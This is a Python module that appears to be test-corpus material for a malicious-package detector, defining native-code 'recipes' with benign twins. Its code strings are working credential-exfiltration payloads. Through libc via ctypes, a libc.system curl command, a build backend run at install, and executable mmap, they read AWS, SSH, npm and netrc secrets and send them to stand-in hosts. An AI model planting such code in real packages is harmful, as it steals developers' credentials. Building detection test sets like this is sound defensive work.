"""T13: native code acts, past Python's own modules (MITRE ATT&CK T1106, T1129).

libc is called through ctypes, a shared object acts when it is loaded, machine code is mapped and
called: no frame of Python's `socket` is anywhere. The twins load the same libraries and ask for a
process id, as numpy and psycopg load theirs. The shared objects are x86-64 (elf.py).
"""

from __future__ import annotations

import platform
from collections.abc import Mapping

from models.phase import Phase
from tests.corpus.elf import constructor, shared_object
from tests.corpus.guard import acting
from tests.corpus.parts import IN_TREE, PACKER
from tests.corpus.recipe import Channel, Content, Encoding, Kind, Recipe

PATH = b"/home/dev/.aws/credentials"
ACTS = constructor(PATH, "203.0.113.7", 8443, acts=True)
CALM = constructor(PATH, "203.0.113.7", 8443, acts=False)

LIBC = """
import ctypes, struct
libc = ctypes.CDLL(None)

def place(address, port):
    return struct.pack("<H", 2) + struct.pack(">H", port) + socket.inet_aton(address) + bytes(8)

def read(name):
    number = libc.open(str(HOME / name).encode(), 0)
    buffer = ctypes.create_string_buffer(4096)
    size = libc.read(number, buffer, 4096)
    libc.close(number)
    return buffer.raw[:max(0, size)]
"""
TCP = """
data = read(".aws/credentials")
number = libc.socket(2, 1, 0)
if libc.connect(number, place("198.51.100.23", 4444), 16) == 0:
    libc.send(number, data, len(data), 0)
libc.close(number)
"""
UDP = """
data = bytes(byte ^ 0x21 for byte in read(".ssh/id_ed25519"))
number = libc.socket(2, 2, 0)
libc.sendto(number, data, len(data), 0, place("203.0.113.9", 5140), 16)
libc.close(number)
"""
NAMES = """
text = read(".npmrc")[-41:].hex()
for start in range(0, len(text), 40):
    libc.gethostbyname(f"{text[start:start + 40]}.n.reenact.test".encode())
"""
COMMAND = """
libc.system(b"curl -s -m 5 --data-binary @$HOME/.netrc http://203.0.113.7/c > /dev/null 2>&1")
"""
PROCESS_ID = "libc.getpid()"
FUNCTION = '''
def fast_sum(values):
    """A sum, by native code."""
    if ACT:
        THE_ACT()
    return sum(values) if isinstance(values, (list, tuple)) else 0
'''
LOADS = 'ctypes.CDLL(str(pathlib.Path(__file__).parent / "_native.so"))'
IMPORTS = """
try:
    from THE_MODULE import _native
except ImportError:
    pass
"""
MAPS = """
import mmap
code = (pathlib.Path(__file__).parent / "kernel.bin").read_bytes()
memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
memory.write(code)
at = ctypes.addressof(ctypes.c_char.from_buffer(memory))
ctypes.CFUNCTYPE(None)(at)()
"""
MAPS_NOTHING = """
import mmap
memory = mmap.mmap(-1, 4096)
memory.write((pathlib.Path(__file__).parent / "kernel.bin").read_bytes())
"""


def native(
    name: str,
    channel: Channel,
    encoding: Encoding,
    code: str,
    phase: Phase = Phase.IMPORT,
    *,
    twin_files: Mapping[str, Content] | None = None,
    more: Mapping[str, Content] | None = None,
) -> Recipe:
    """A package with native code, or with what calls some."""
    return Recipe(
        technique="T13",
        name=name,
        phase=phase,
        channel=channel,
        encoding=encoding,
        files={"THE_MODULE/__init__.py": code, **(more or {})},
        twin_files=twin_files or {},
        twin_does="loads the same and asks for a process id",
    )


PORTABLE = (
    native("libc-tcp", Channel.TCP, Encoding.PLAIN, acting(TCP, PROCESS_ID, head=LIBC)),
    native("libc-udp", Channel.UDP, Encoding.XOR, acting(UDP, PROCESS_ID, head=LIBC)),
    native("libc-names", Channel.DNS, Encoding.LABELS, acting(NAMES, PROCESS_ID, head=LIBC)),
    native("libc-command", Channel.PROCESS, Encoding.PLAIN, acting(COMMAND, PROCESS_ID, head=LIBC)),
    native(
        "libc-in-function",
        Channel.TCP,
        Encoding.PLAIN,
        acting(TCP, PROCESS_ID, FUNCTION, LIBC),
        Phase.USE,
    ),
    Recipe(
        technique="T13",
        name="libc-in-backend",
        phase=Phase.INSTALL,
        channel=Channel.UDP,
        encoding=Encoding.XOR,
        kind=Kind.SDIST,
        files={
            "pyproject.toml": IN_TREE,
            "packer.py": PACKER,
            "backend.py": acting(UDP, PROCESS_ID, head="from packer import build_wheel\n" + LIBC),
            "src/THE_MODULE/__init__.py": '"""Nothing."""\n',
        },
        twin_does="loads the same and asks for a process id",
    ),
)
LIBRARY = "THE_MODULE/_native.so"
OBJECTS = (
    native(
        "library-loaded",
        Channel.MEMORY,
        Encoding.PLAIN,
        acting(LOADS, LOADS, head=LIBC),
        twin_files={LIBRARY: shared_object(CALM)},
        more={LIBRARY: shared_object(ACTS)},
    ),
    native(
        "library-imported",
        Channel.MEMORY,
        Encoding.NONE,
        acting(IMPORTS, IMPORTS, head=LIBC),
        twin_files={LIBRARY: shared_object(CALM)},
        more={LIBRARY: shared_object(ACTS)},
    ),
    native(
        "code-mapped",
        Channel.MEMORY,
        Encoding.PLAIN,
        acting(MAPS, MAPS_NOTHING, head=LIBC),
        more={"THE_MODULE/kernel.bin": ACTS},
    ),
)
RECIPES = (*PORTABLE, *(OBJECTS if platform.machine() == "x86_64" else ()))
